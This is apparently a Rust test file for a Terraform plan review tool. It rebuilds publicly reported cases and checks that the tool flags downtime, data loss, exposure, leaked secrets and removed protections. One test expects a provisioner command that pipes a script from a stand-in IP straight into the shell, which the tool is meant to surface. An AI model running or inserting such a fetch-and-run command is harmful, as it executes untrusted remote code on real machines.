//! What people reported in public, rebuilt in `fixtures/public/`: one case and one test of its name for each class.

use super::{Case, assert_in_order};
use crate::cli::harness::tfview;

/// Computed values came before what the author changed, and kept equal entries apart.
#[test]
fn cf_dns_noise() {
    let case = Case("public/cf_dns_noise");
    let text = case.review();
    assert_in_order(
        &text,
        &[
            "r[\"h41\"]",
            "content target.example.net -> evil.example.org",
            "59 × cloudflare_dns_record.r",
            "settings.flatten_cname = false",
            "(also known after apply: ",
        ],
    );
    let (entries, _) = text.split_once("(also known").unwrap();
    assert!(!entries.contains("known after apply"), "{text}");
    let comment = case.run("review --format markdown plan.json").stdout;
    assert_in_order(&comment, &["h41", "content", "59", "flatten_cname"]);
    insta::assert_snapshot!("cf_dns_noise", text);
}

/// The old value of what is computed was told at length.
#[test]
fn azapi_output() {
    let case = Case("public/azapi_output");
    let text = case.review();
    assert_in_order(
        &text,
        &["~ azapi_resource.app\n", "(also known after apply: output)"],
    );
    insta::assert_snapshot!("azapi_output", text);
}

/// A change in place that stops or restarts was no finding.
#[test]
fn inplace_restart_a() {
    let case = Case("public/inplace_restart_a");
    insta::assert_snapshot!(case.findings().join("\n"), @r"
    warning downtime aws_instance.type: the machine stops and starts, now (instance_type: m5.xlarge -> m4.xlarge)
    warning downtime aws_instance.userdata: the machine stops and starts, now (user_data changes)
    warning downtime aws_db_instance.class: the database restarts, now (instance_class: db.r5.large -> db.r5.2xlarge)
    warning downtime google_compute_instance.vm: the machine stops and starts, now (machine_type: n1-standard-4 -> n1-standard-8)
    warning downtime google_sql_database_instance.tier: the database restarts, now (settings.tier: db-custom-2-7680 -> db-custom-4-15360)
    warning downtime azurerm_linux_virtual_machine.size: the machine restarts, now (size: Standard_D2s_v5 -> Standard_D8s_v5)
    ");
    assert!(case.is_held("finding:downtime"));
    insta::assert_snapshot!("inplace_restart_a", case.review());
}

/// Data that goes with a column of a table that stays was no finding.
#[test]
fn column_drop_a() {
    let case = Case("public/column_drop_a");
    insta::assert_snapshot!(case.findings().join("\n"), @r"
    critical data-loss snowflake_table.t: column EMAIL is dropped with its data
    critical data-loss google_bigquery_table.t: column email is dropped with its data
    ");
    assert!(case.is_held("finding:data-loss"));
    insta::assert_snapshot!("column_drop_a", case.review());
}

/// Data that goes with a disk of a machine that stays was no finding.
#[test]
fn vsphere_deleted_label() {
    let case = Case("public/vsphere_deleted_label");
    insta::assert_snapshot!(case.findings().join("\n"), @"critical data-loss vsphere_virtual_machine.vm: disk data.vmdk is deleted");
    insta::assert_snapshot!("vsphere_deleted_label", case.review());
}

/// What an apply runs was not said.
#[test]
fn provisioners_a() {
    let case = Case("public/provisioners_a");
    let text = case.review();
    let words: Vec<&str> = text.split_whitespace().collect();
    assert_in_order(
        &words.join(" "),
        &[
            "null_resource.setup",
            "runs local-exec: curl -s http://203.0.113.7/i.sh | sh",
        ],
    );
    insta::assert_snapshot!("provisioners_a", text);
}

/// A rule read one place of an object, and the kind is at the other.
#[test]
fn k8s_imported_namespace() {
    let case = Case("public/k8s_imported_namespace");
    insta::assert_snapshot!(case.findings().join("\n"), @"critical data-loss kubernetes_manifest.a: namespace replaced: the old one is destroyed; manifest.metadata.name = prod");
    assert!(case.is_held("level:critical"));
    insta::assert_snapshot!("k8s_imported_namespace", case.review());
}

/// A value that is sensitive at one place of an object was printed from another.
#[test]
fn helm_leak_destroy() {
    let case = Case("public/helm_leak_destroy");
    let text = case.review();
    for format in ["terminal", "markdown", "html", "json"] {
        for options in ["", "--context all"] {
            let command = format!("review --format {format} {options} plan.json");
            let output = case.run(&command);
            let is_shown = output.stdout.contains("CorrectHorse9Battery");
            assert!(!is_shown, "{command}: {output}");
        }
    }
    insta::assert_snapshot!("helm_leak_destroy", text);
}

/// `null` against `""` was told like a change, and first.
#[test]
fn lambda_empty() {
    let case = Case("public/lambda_empty");
    let text = case.review();
    assert_in_order(
        &text,
        &[
            "environment[0].variables.TOKEN (sensitive value, changed), + NEW = x",
            "filename",
            "source_code_hash aaa= -> bbb=",
            "formatting only: ",
            "(also known after apply: last_modified)",
        ],
    );
    insta::assert_snapshot!("lambda_empty", text);
}

/// Removed blocks printed their empty members, and what counts was left out for them.
#[test]
fn waf_removed_all() {
    let case = Case("public/waf_removed_all");
    let text = case.review();
    insta::assert_snapshot!(case.findings().join("\n"), @r#"
    warning protection aws_wafv2_web_acl.a: rule["rate"].action.block is removed
    warning protection aws_wafv2_web_acl.a: rule["common"].statement.managed_rule_group_statement is removed
    warning protection aws_wafv2_web_acl.a: rule["sqli"].statement.managed_rule_group_statement is removed
    "#);
    assert!(!text.contains("[]") && !text.contains("null"), "{text}");
    assert!(text.lines().count() < 3 * 17, "{text}");
    insta::assert_snapshot!("waf_removed_all", text);
}

/// A finding named no element and left its place out; computed members were told as unknown.
#[test]
fn cf_ruleset_noref() {
    let case = Case("public/cf_ruleset_noref");
    insta::assert_snapshot!(case.findings().join("\n"), @r#"warning protection cloudflare_ruleset.t: rules["Account skip"].action: adds skip"#);
    let text = case.review();
    assert_in_order(
        &text,
        &[
            "+ rules[\"Account skip\"]",
            "action = skip",
            "(first)",
            "protection",
        ],
    );
    insta::assert_snapshot!("cf_ruleset_noref", text);
}

/// The place of a rule that moved was not said.
#[test]
fn panos_move() {
    let case = Case("public/panos_move");
    let text = case.review();
    assert_in_order(&text, &["rules[\"block-bad\", 0 -> 2]", "(moved; last)"]);
    insta::assert_snapshot!("panos_move", text);
}

/// A shift of `count` was told one by one.
#[test]
fn count_shift() {
    let case = Case("public/count_shift");
    let text = case.review();
    assert_in_order(
        &text,
        &[
            "-/+ 6 × aws_route53_zone.z",
            "looks like a shift of `count`",
            "bar.example.com -> carol.example.com",
        ],
    );
    assert_in_order(&text, &["1 to destroy, 6 to replace"]);
    insta::assert_snapshot!("count_shift", text);
}

/// Access that is taken away was no finding.
#[test]
fn g_iam_binding_delete() {
    let case = Case("public/g_iam_binding_delete");
    insta::assert_snapshot!(case.findings().join("\n"), @"warning downtime google_project_iam_binding.p: roles/owner is taken from user:a@example.com, user:b@example.com");
    insta::assert_snapshot!("g_iam_binding_delete", case.review());
}

/// A policy of Google was compared as JSON.
#[test]
fn gcp_policy_diff() {
    let case = Case("public/gcp_policy_diff");
    let text = case.review();
    assert_in_order(
        &text,
        &[
            "policy_data:",
            "- roles/bigquery.metadataViewer for user:n@example.com",
            "+ roles/viewer for allUsers",
        ],
    );
    insta::assert_snapshot!(case.findings().join("\n"), @"critical exposure google_project_iam_policy.g: roles/viewer for allUsers");
    insta::assert_snapshot!("gcp_policy_diff", text);
}

/// The same content as text and as a value was a change.
#[test]
fn azapi_migrate() {
    let case = Case("public/azapi_migrate");
    let text = case.review();
    assert_in_order(
        &text,
        &["formatting only: body", "(also known after apply: output)"],
    );
    insta::assert_snapshot!("azapi_migrate", text);
}

/// Lines of other loggers failed a complete run.
#[test]
fn tflogjson() {
    let case = Case("public/tflogjson");
    let output = case.run("stream apply.jsonl");
    assert_eq!(output.code, Some(0), "{output}");
    insta::assert_snapshot!("tflogjson", output.stdout);
}

/// Messages that the tool does not print were shown as `Policy Result`.
#[test]
fn policy_stream() {
    let case = Case("public/policy_stream");
    let output = case.run("stream plan.jsonl");
    insta::assert_snapshot!("policy_stream", output.stdout);
}

/// A port that a provider without rules opens to the world was no finding.
#[test]
fn oci_rdp_open() {
    let case = Case("public/oci_rdp_open");
    insta::assert_snapshot!(case.findings().join("\n"), @"critical exposure oci_core_security_list.s: rdp open to the world (0.0.0.0/0)");
    insta::assert_snapshot!("oci_rdp_open", case.review());
}

/// An older version was no finding.
#[test]
fn downgrade_a() {
    let case = Case("public/downgrade_a");
    insta::assert_snapshot!(case.findings().join("\n"), @r"
    notice downtime helm_release.cert: version: 1.33.1 -> 0.2.2 (downgrade)
    notice downtime helm_release.dns: version: 2.20.5 -> 0.2.2 (downgrade)
    notice downtime helm_release.ingress: version: 3.15.2 -> 0.2.2 (downgrade)
    ");
    insta::assert_snapshot!("downgrade_a", case.review());
}

/// The plan undid what had scaled outside of the tool, in silence.
#[test]
fn ecs_autoscaled() {
    let case = Case("public/ecs_autoscaled");
    insta::assert_snapshot!(case.findings().join("\n"), @"warning downtime aws_ecs_service.s: desired_count: 10 -> 3 (undoes a change outside of the tool: 3 -> 10)");
    insta::assert_snapshot!("ecs_autoscaled", case.review());
}

/// A cause that leads through `depends_on` was not found.
#[test]
fn role_assign_deferred() {
    let case = Case("public/role_assign_deferred");
    let text = case.review();
    assert_in_order(
        &text,
        &[
            "azurerm_role_assignment.cost",
            "because of",
            "data.azurerm_subscription.current",
            "azurerm_role_assignment.purch",
            "is read during apply; because of",
            "module.build.null_resource.build",
        ],
    );
    insta::assert_snapshot!("role_assign_deferred", text);
}

/// `<skipped/>` said no reason.
#[test]
fn junit_ts() {
    let case = Case("public/junit_ts");
    let report = std::path::Path::new(env!("CARGO_TARGET_TMPDIR")).join("junit_ts.xml");
    let output = tfview("stream test.jsonl --junit")
        .argument(report.to_str().unwrap())
        .folder(&case.folder())
        .output();
    assert_eq!(output.code, Some(1), "{output}");
    let xml = std::fs::read_to_string(&report).unwrap();
    insta::assert_snapshot!("junit_ts", xml);
}

/// Two rows of the table said the same, so that each finding was there twice under one name.
#[test]
fn told_twice() {
    let case = Case("reports/told-twice");
    insta::assert_snapshot!(case.findings().join("\n"), @r"
    warning exposure google_compute_backend_service.b: iap.enabled: true -> false
    warning protection google_sql_database_instance.a: the way back in time is shorter (settings.backup_configuration.transaction_log_retention_days: 7 -> 1)
    warning protection google_sql_database_instance.a: fewer backups stay (settings.backup_configuration.backup_retention_settings.retained_backups: 30 -> 2)
    ");
}
